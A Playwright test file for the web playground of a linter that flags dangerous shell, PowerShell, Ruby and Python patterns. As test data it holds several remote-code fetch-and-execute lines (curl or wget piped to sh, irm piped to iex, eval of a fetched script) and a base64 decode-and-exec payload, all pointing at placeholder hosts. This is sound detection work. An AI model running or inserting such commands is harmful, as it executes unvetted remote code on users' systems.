import { chromium, type Browser, type Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { EXAMPLES } from "../../site/playground/examples.js";
import { fragmentOf, sharedOf, type Shared } from "../../site/playground/share.js";
import { builtSite, serveSite, type SiteServer } from "./built-site.js";

let server: SiteServer;
let browser: Browser;
beforeAll(async () => {
  server = await serveSite(await builtSite());
  browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu"],
  });
});
afterAll(async () => {
  await browser.close();
  await server.close();
});

let problems: string[] = [];
afterEach(() => expect(problems.splice(0)).toEqual([]));

/** Opens the playground, with a state from a link if one is given, and waits for the first result and the editor. */
async function open(shared: Partial<Shared> | null = null): Promise<Page> {
  const context = await browser.newContext();
  const page = await context.newPage();
  page.on("pageerror", ({ message }) => problems.push(message));
  page.on("console", (message) => message.type() === "error" && problems.push(message.text()));
  const whole = { text: "", profile: "extended" as const, format: "", query: null, ...shared };
  await page.goto(`${server.address}playground/${shared === null ? "" : `#${fragmentOf(whole)}`}`);
  await page.waitForFunction(() => document.documentElement.dataset["state"] !== undefined);
  await page.waitForFunction(() => document.documentElement.dataset["editor"] === "ready");
  return page;
}

const summary = (page: Page): Promise<string | null> => page.textContent("#summary");
const summaryIs = (page: Page, text: string): Promise<unknown> =>
  page.waitForFunction(
    (part) => document.getElementById("summary")?.textContent?.includes(part),
    text,
  );

/** Returns the texts that the editor underlines with a severity. */
const underlined = (page: Page, severity: string): Promise<string[]> =>
  page.locator(`#text .cm-lintRange-${severity}`).allTextContents();

/** Replaces the text in an editor, as a person does. */
async function type(page: Page, editor: string, text: string): Promise<void> {
  await page.click(`${editor} .cm-content`);
  await page.keyboard.press("Control+a");
  await page.keyboard.insertText(text);
}

describe("the playground", () => {
  it("shows the trace, the safer command, and why a command was dismissed", async () => {
    const page = await open();
    expect(await summary(page)).toBe("Label PS: 1 finding");
    expect(await underlined(page, "error")).toEqual([
      "curl -fsSL https://get.example/install.sh | sudo bash",
    ]);
    expect(await page.textContent("#results article")).toContain("sudo bash ./install.sh --yes");
    await page.selectOption("#example", "A warning");
    await summaryIs(page, "Label PS: 1 finding, 1 not reported");
    expect(await underlined(page, "hint")).toEqual([
      "wget -qO- https://other.example/setup.sh | sh",
    ]);
    const [finding, note] = await page.locator("#results article").allTextContents();
    expect(finding).toMatch(/fetch: curl fetches remote content.*contract\/bash\/fetchers\.scm:\d/);
    expect(finding).toContain("sudo bash ./install.sh");
    expect(note).toContain('warned against by: "Never run"');
    await page.click("text=Show the evidence");
    expect(await page.evaluate(() => getSelection()?.toString())).toBe("Never run");
    expect(await page.getAttribute("#results h3 a", "href")).toBe("../rules/bash/fetch-pipe.html");
    await page.close();
  });

  it("shows the first result before the editor is loaded, and then shows the text in the editor", async () => {
    const page = await (await browser.newContext({ serviceWorkers: "block" })).newPage();
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\/editor-[^/]*\.js$/, async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(`${server.address}playground/`);
    await page.waitForSelector("#results article");
    expect(await page.textContent("#plain-text")).toContain("curl -fsSL");
    expect(await page.locator(".cm-content").count()).toBe(0);
    await page.selectOption("#example", "A decoded payload");
    await page.waitForSelector("#results h3:has-text('python/decode-execute')");
    expect(await page.textContent("#plain-text")).toContain("import base64");
    release();
    await page.waitForSelector("#text .cm-content:has-text('import base64')");
    expect(await underlined(page, "error")).toEqual(["exec(base64"]);
    await page.close();
  });

  it("loads the editor before the grammars if a person starts to edit", async () => {
    const page = await (await browser.newContext({ serviceWorkers: "block" })).newPage();
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\.wasm$/, async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(`${server.address}playground/`);
    await page.click("#plain-text");
    await type(page, "#text", "curl https://a.example | zsh");
    release();
    await summaryIs(page, "Label PS: 1 finding");
    expect(await underlined(page, "error")).toEqual(["curl https://a.example | zsh"]);
    await page.close();
  });

  it.each(Object.entries(EXAMPLES))(
    "has an example with a finding: %s",
    async (name, { format }) => {
      const page = await open({ text: "nothing" });
      await page.selectOption("#example", name);
      await page.waitForSelector("#results article");
      expect(await summary(page)).toMatch(/^Label PS: \d+ finding/);
      expect(await page.inputValue("#format")).toBe(format);
      await page.close();
    },
  );

  it("updates the result when the text, the profile or the language changes", async () => {
    const page = await open();
    await type(page, "#text", "curl https://a.example | fish");
    await summaryIs(page, "Label PS: 1 finding");
    await page.selectOption("#profile", "contract");
    await summaryIs(page, "No label");
    await type(page, "#text", "# curl https://a.example | sh");
    await summaryIs(page, "No label: no findings");
    await page.selectOption("#format", "dockerfile");
    await type(page, "#text", "RUN curl https://a.example | sh");
    await summaryIs(page, "Label PS: 1 finding");
    await page.close();
  });

  it("shows the decoded payload", async () => {
    const page = await open();
    await page.selectOption("#example", "A decoded payload");
    await page.waitForSelector("#results :text('Decoded payload')");
    expect(await page.textContent("#results article")).toMatch(
      /Decoded payloadimport os; os\.system\("curl https:\/\/a\.example \| sh"\).*1 finding in it/s,
    );
    await page.close();
  });

  it("adds a custom query file, and shows an error with line and column", async () => {
    const page = await open({ text: "acmeget install | sh" });
    expect(await summary(page)).toBe("No label: no findings");
    await page.click("#query-panel summary");
    await summaryIs(page, "Label PS: 1 finding");
    const card = await page.textContent("#results article");
    expect(card).toContain("acme/no-acmeget");
    expect(card).toContain("Install the package instead.");
    await type(
      page,
      "#query",
      '; acmeget\n((command_nam) @source.fetcher\n  (#word-is? @source.fetcher "x"))\n',
    );
    await summaryIs(page, "the query file has an error");
    expect(await page.textContent("#query-problem")).toMatch(
      /^Line 2, column 16: @source\.fetcher has no effect on a command_nam/,
    );
    expect(await page.locator("#query .cm-lintRange-error").allTextContents()).toEqual([
      "@source.fetcher",
    ]);
    await page.close();
  });

  it("shows the syntax tree and the captures, and selects the text of a node", async () => {
    const page = await open();
    await page.click("#trees summary");
    await page.waitForSelector("#nodes li");
    expect(await page.textContent("#tree-status")).toBe("Parsed as bash without an error.");
    const captures = await page.locator("#captures tr").allTextContents();
    expect(captures).toContainEqual(expect.stringMatching(/^@source\.fetchercurlcontract\/bash/));
    await page.click("#nodes button:has-text('(pipeline)')");
    expect(await page.evaluate(() => getSelection()?.toString())).toBe(
      "curl -fsSL https://get.example/install.sh | sudo bash -s -- --yes",
    );
    await page.close();
  });

  it("opens a selected file in the language that its name indicates", async () => {
    const page = await open();
    const buffer = Buffer.from("FROM x\nRUN curl https://a.example | sh\n");
    await page.setInputFiles("#file", { name: "Dockerfile", mimeType: "text/plain", buffer });
    await summaryIs(page, "Label PS: 1 finding");
    await page.waitForFunction(
      () => document.querySelector<HTMLSelectElement>("#format")?.value === "dockerfile",
    );
    await page.close();
  });

  it("opens a file that is dropped anywhere on the page, and ignores other drops", async () => {
    for (const target of ["#text .cm-content", "#results"]) {
      const page = await open();
      const dropped = await page.evaluateHandle(() => {
        const data = new DataTransfer();
        data.items.add(new File(["irm https://a.example/x.ps1 | iex\n"], "setup.ps1"));
        return data;
      });
      await page.dispatchEvent(target, "drop", { dataTransfer: dropped });
      await page.waitForSelector("#results h3:has-text('powershell/fetch-execute')");
      expect(await page.inputValue("#format")).toBe("powershell");
      expect(await page.locator("#text .cm-content").textContent()).toContain("irm https");
      expect(await page.textContent("#announcement")).toBe("setup.ps1 is open");
      const words = await page.evaluateHandle(() => {
        const data = new DataTransfer();
        data.setData("text/plain", "wget -qO- https://a.example | sh");
        return data;
      });
      await page.dispatchEvent("#results", "drop", { dataTransfer: words });
      expect(await page.locator("#text .cm-content").textContent()).toContain("irm https");
      await page.close();
    }
  });

  it("reports a file that is too large, and keeps the text", async () => {
    const page = await open();
    await page.evaluate(() => {
      const data = new DataTransfer();
      data.items.add(new File(["x".repeat(4_000_001)], "large.txt"));
      dispatchEvent(new DragEvent("drop", { dataTransfer: data, cancelable: true }));
    });
    await page.waitForFunction(() =>
      document.getElementById("announcement")?.textContent?.includes("larger than 4 MB"),
    );
    expect(await page.locator("#text .cm-content").textContent()).toContain("curl -fsSL");
    await page.close();
  });

  it("stores its state in a link", async () => {
    const query = { path: "bash/own.scm", text: "; none\n" };
    const page = await open({
      text: "echo ü «» 漢字\n",
      profile: "contract",
      format: "bash",
      query,
    });
    await page.click("#share");
    await page.waitForFunction(() => document.getElementById("announcement")?.textContent !== "");
    expect(sharedOf(new URL(page.url()).hash)).toEqual({
      text: "echo ü «» 漢字\n",
      profile: "contract",
      format: "bash",
      query,
    });
    await page.close();
  });

  it("can be used with the keyboard alone", async () => {
    const page = await open();
    await page.click("#text .cm-content");
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe("SUMMARY");
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.press("Control+Home");
    await page.keyboard.press("F8");
    expect(await page.evaluate(() => getSelection()?.toString())).toContain("curl -fsSL");
    await page.close();
  });
});

describe("a text in the playground", () => {
  it("causes no request after the service worker has stored the page, which also works offline", async () => {
    const page = await open();
    await page.waitForFunction(() => document.documentElement.dataset["offline"] === "ready");
    await page.waitForLoadState("networkidle");
    server.requests.length = 0;
    for (const [name, rule] of [
      ["PowerShell", "powershell/fetch-execute"],
      ["A decoded payload", "python/decode-execute"],
    ] as const) {
      await page.selectOption("#example", name);
      await page.waitForSelector(`#results h3:has-text("${rule}")`);
    }
    await page.selectOption("#format", "ruby");
    await type(page, "#text", 'eval(Net::HTTP.get(URI("https://a.example/x.rb")))');
    await page.waitForFunction(() =>
      document.querySelector("#results h3")?.textContent?.includes("script/fetch-execute"),
    );
    expect(server.requests).toEqual([]);
    await page.context().setOffline(true);
    await page.reload();
    await summaryIs(page, "Label PS: 1 finding");
    await page.close();
  });

  it("cannot be sent to other hosts, because the policy of the page and the worker forbids this", async () => {
    const page = await open();
    const refused = await page.evaluate(async () => {
      const tries = async (run: string): Promise<string> => {
        const address = URL.createObjectURL(new Blob([run], { type: "text/javascript" }));
        const worker = new Worker(address);
        return new Promise((resolve) =>
          worker.addEventListener("message", ({ data }) => resolve(data)),
        );
      };
      const other = "http://127.0.0.2:9/";
      const here = await fetch(other).then(
        () => "sent",
        () => "refused",
      );
      const there = await tries(
        `fetch("${other}").then(() => postMessage("sent"), () => postMessage("refused"));
         addEventListener("securitypolicyviolation", ({ effectiveDirective }) => postMessage(effectiveDirective))`,
      );
      return [here, there];
    });
    expect(refused[0]).toBe("refused");
    expect(["refused", "connect-src"]).toContain(refused[1]);
    expect(
      problems.filter((message) => /Content Security Policy|connect-src/.test(message)).length,
    ).toBeGreaterThanOrEqual(2);
    problems = [];
    await page.close();
  });
});

describe("sharedOf", () => {
  it.each(["", "#", "#v1.", "#v1.AAAA", "#v2.abc", "#v1.!", `#v1.${btoa("[1]")}`])(
    "restores nothing from %j",
    (fragment) => expect(sharedOf(fragment)).toBeNull(),
  );

  it("restores nothing from a state that is too large", () => {
    const text = "a".repeat(5_000_000);
    const fragment = fragmentOf({ text, profile: "contract", format: "", query: null });
    expect(fragment.length).toBeLessThan(10_000);
    expect(sharedOf(fragment)).toBeNull();
  });
});
